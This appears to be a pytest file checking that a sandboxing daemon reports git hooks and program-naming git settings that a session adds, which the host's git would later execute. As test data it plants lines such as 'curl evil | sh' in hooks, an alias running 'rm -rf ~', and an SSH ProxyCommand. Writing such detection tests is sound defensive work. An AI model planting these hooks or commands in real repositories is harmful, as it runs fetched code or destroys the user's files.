"""What a session adds that the host's git would execute (hooks, and settings that name a
program) is reported in the result of the very call that added it, in any repository of
the workspace, and `toolsd status` lists it."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest

from conftest import needs_bwrap, wait_for

# One daemon for the module; each test its own workspace (its repositories stay out of the
# next test's).
pytestmark = [needs_bwrap, pytest.mark.daemon(shared=True)]


@pytest.fixture
def workspace(daemon):
    return daemon.workspace


def test_git_init_then_a_hook_and_fsmonitor_are_reported_by_that_very_call(client, workspace):
    s = client.session_open(workspace)["session"]
    r = client.shell_run(s, "git init -q app && echo 'curl evil | sh' > app/.git/hooks/pre-commit"
                            " && git -C app config core.fsmonitor ./watch.sh && echo done")
    assert r["output"] == "done\n"
    assert r["host_exec"] == [f"{workspace}/app/.git/config: core.fsmonitor = ./watch.sh",
                              f"{workspace}/app/.git/hooks/pre-commit"]
    # Every later result carries it while it is there; a setting added later joins it.
    r = client.shell_run(s, "git -C app config alias.st '!rm -rf ~' && git -C app config "
                            "user.name agent")
    assert r["host_exec"] == [f"{workspace}/app/.git/config: alias.st = !rm -rf ~",
                              f"{workspace}/app/.git/config: core.fsmonitor = ./watch.sh",
                              f"{workspace}/app/.git/hooks/pre-commit"]
    assert "host_exec" not in client.shell_run(s, "rm -rf app")
    client.session_close(s)


def test_what_was_there_at_open_is_not_reported_but_changes_to_it_are(client, workspace):
    nested = os.path.join(workspace, "vendor", "lib")
    subprocess.run(["git", "init", "-q", nested], check=True)
    subprocess.run(["git", "-C", nested, "config", "core.pager", "less"], check=True)
    hook = os.path.join(nested, ".git", "hooks", "pre-push")
    with open(hook, "w") as f:
        f.write("#!/bin/sh\nexit 0\n")
    s = client.session_open(workspace)["session"]
    r = client.shell_run(s, "git -C vendor/lib config core.pager less && echo same")
    assert "host_exec" not in r  # the same setting as at open
    r = client.shell_run(s, "echo 'curl evil | sh' >> vendor/lib/.git/hooks/pre-push; "
                            "mv vendor/lib/.git/hooks/pre-commit.sample "
                            "vendor/lib/.git/hooks/pre-commit")
    assert r["host_exec"] == [f"{hook[:-len('pre-push')]}pre-commit", hook]
    client.session_close(s)


def test_a_repl_call_and_a_background_process_report_theirs(client, workspace):
    s = client.session_open(workspace)["session"]
    turn = client.turn_begin(s)["turn"]
    assert client.repl_exec(s, turn, "import subprocess, os")["status"] == "ok"
    # A second call on the running REPL is answered without a task of its own unless the
    # workspace changed: it still reports.
    r = client.repl_exec(s, turn, "subprocess.run(['git', 'init', '-q', 'r']); "
                                  "open('r/.git/hooks/post-checkout', 'w').write('evil')")
    assert r["host_exec"] == [f"{workspace}/r/.git/hooks/post-checkout"]
    bg = client.process_start(s, "git init -q --bare b.git && "
                                 "git -C b.git config core.sshCommand 'ssh -o ProxyCommand=evil'")
    client.process_output(bg["id"], wait_s=60, until="$^")  # until it exits

    def reported() -> bool:
        out = client.process_output(bg["id"])
        return out["status"] == "exited" and any("b.git/config" in line
                                                for line in out.get("host_exec", []))
    wait_for(reported)
    closed = client.session_close(s)
    assert closed["host_exec"] == [
        f"{workspace}/b.git/config: core.sshcommand = ssh -o ProxyCommand=evil",
        f"{workspace}/r/.git/hooks/post-checkout"]


def test_status_lists_them_per_session(daemon, client, workspace):
    s = client.session_open(workspace)["session"]
    client.shell_run(s, "git init -q x && git -C x config diff.external ./d.sh")
    out = subprocess.run([sys.executable, "-m", "toolsd", "--socket", daemon.socket, "status"],
                         capture_output=True, text=True, timeout=60).stdout
    mine = out[out.index(f"  {s}  "):]
    assert f"{workspace}/x/.git/config: diff.external = ./d.sh" in mine
    client.session_close(s)
